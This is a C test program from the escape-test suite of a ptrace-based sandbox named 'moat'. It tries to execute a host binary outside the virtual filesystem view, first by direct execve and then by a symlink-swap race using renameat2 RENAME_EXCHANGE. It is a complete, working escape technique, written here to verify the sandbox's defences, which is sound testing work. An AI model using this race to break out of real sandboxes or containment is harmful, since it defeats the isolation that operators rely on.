/* esc_exec_host — run a host binary that lies outside the view.
 *
 * Attacks rule 7 (exec is resolved in the virtual filesystem, the path
 * rewritten to the host file decided on, and the new image verified at
 * PTRACE_EVENT_EXEC by (st_dev, st_ino): a mismatch kills the process before
 * its first instruction).  Two ways:
 *  1. execve(HOSTEXE) by its absolute host path: outside the view, so ENOENT
 *     (audited `execve`, fs.outside-view).
 *  2. a race: /tmp/esc_prog.PID is swapped with renameat2(RENAME_EXCHANGE),
 *     over and over by a second thread, between a copy of /bin/true and a
 *     symlink to HOSTEXE, while children execve it.  moat decides on the
 *     regular file; if the kernel then opens the host path of that name when
 *     the symlink has just been swapped in, it follows the link on the host
 *     and maps HOSTEXE.  Only the exec-stop check stands in the way: the
 *     child must die (SIGKILL, audited exec.binary-mismatch) before it runs.
 *     The race runs for 3 s (or until it wins).
 *
 * HOSTEXE is a copy of this program that the runner puts in the secret's
 * directory; run as `esc_exec_host --proof` it writes "RAN" to fd 3, which
 * is how a child that ran it is told from one that ran /bin/true.
 * Natively both ways run it.
 *
 * usage: ESC_TOKEN=... esc_exec_host /var/tmp/moat-sec.XXXXXX/exec-host
 */
#include "esc.h"
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <sys/wait.h>
#include <time.h>

enum { RAN_HOST = 1, RAN_OTHER = 0 };

static char prog[64], alt[64];
static atomic_int stop;
static int exec_errno; /* what the last failed execve said */

static void *flip(void *unused)
{
	(void)unused;
	while (!atomic_load(&stop))
		renameat2(AT_FDCWD, prog, AT_FDCWD, alt, RENAME_EXCHANGE);
	return NULL;
}

/* fork; the child execs path with fd 3 on a pipe.  RAN_HOST if the proof
 * came back; otherwise RAN_OTHER (exit 0), or a negative wait summary:
 * -(exit status) for a failed exec (127, errno in exec_errno) or a nonzero
 * exit, -1000-SIG for a child killed by SIG. */
static int try_exec(const char *path)
{
	int p[2];
	if (pipe2(p, O_CLOEXEC) < 0)
		esc_usage("pipe2 failed");
	pid_t c = fork();
	if (c < 0)
		esc_usage("fork failed");
	if (c == 0) {
		if (dup2(p[1], 3) < 0) /* dup2 clears O_CLOEXEC on fd 3 */
			_exit(126);
		char *av[] = {"esc_exec_host", "--proof", NULL};
		execve(path, av, (char *[]){NULL});
		dprintf(3, "E%d", errno);
		_exit(127);
	}
	close(p[1]);
	char b[8] = {0};
	ssize_t n = read(p[0], b, sizeof b - 1);
	close(p[0]);
	int st = 0;
	waitpid(c, &st, 0);
	if (n >= 3 && memcmp(b, "RAN", 3) == 0)
		return RAN_HOST;
	exec_errno = n > 1 && b[0] == 'E' ? atoi(b + 1) : 0;
	if (WIFSIGNALED(st))
		return -1000 - WTERMSIG(st);
	return WEXITSTATUS(st) ? -WEXITSTATUS(st) : RAN_OTHER;
}

static void race(const char *host)
{
	snprintf(prog, sizeof prog, "/tmp/esc_prog.%d", (int)getpid());
	snprintf(alt, sizeof alt, "/tmp/esc_prog_alt.%d", (int)getpid());
	unlink(prog);
	unlink(alt);
	if (esc_copy_file("/bin/true", prog, O_EXCL) < 0) {
		esc_held("exec race: copying /bin/true to %s: %s", prog, esc_errname(errno));
		return;
	}
	if (symlink(host, alt) < 0) {
		esc_held("exec race: symlink(%s, %s): %s", host, alt, esc_errname(errno));
		unlink(prog);
		return;
	}
	pthread_t t;
	if (pthread_create(&t, NULL, flip, NULL) != 0)
		esc_usage("pthread_create failed");

	long tries = 0, wins = 0, ran_true = 0, killed = 0, failed = 0, other = 0;
	struct timespec t0, t1;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	do {
		int x = try_exec(prog);
		tries++;
		if (x == RAN_HOST)
			wins++;
		else if (x == RAN_OTHER)
			ran_true++;
		else if (x == -1000 - SIGKILL)
			killed++;
		else if (x == -127)
			failed++; /* ENOENT (the symlink, walked virtually) or the like */
		else
			other++;
		clock_gettime(CLOCK_MONOTONIC, &t1);
	} while (t1.tv_sec - t0.tv_sec < 3 && !wins);
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	unlink(prog);
	unlink(alt);

	fprintf(stderr, "# exec race: %ld execs: %ld ran true, %ld failed to exec, %ld killed (SIGKILL), "
			"%ld other, %ld ran the host binary\n",
		tries, ran_true, failed, killed, other, wins);
	if (wins)
		esc_won("exec race: %ld of %ld execs of %s ran the host binary", wins, tries, prog);
	else
		esc_held("exec race: %ld execs, %ld ran true, %ld killed, none ran the host binary", tries,
			 ran_true, killed);
}

int main(int argc, char **argv)
{
	if (argc == 2 && strcmp(argv[1], "--proof") == 0) {
		(void)!write(3, "RAN", 3);
		return 0;
	}
	if (argc != 2 || argv[1][0] != '/')
		esc_usage("esc_exec_host /ABS/exec-host");
	esc_token();
	const char *host = argv[1];

	int r = try_exec(host);
	if (r == RAN_HOST)
		esc_won("execve(%s) ran a host binary outside the view", host);
	else if (r == -127)
		esc_held("execve(%s): %s", host, esc_errname(exec_errno));
	else
		esc_held("execve(%s): child %s %d", host, r <= -1000 ? "killed by signal" : "exited",
			 r <= -1000 ? -1000 - r : -r);

	race(host);
	return esc_finish();
}
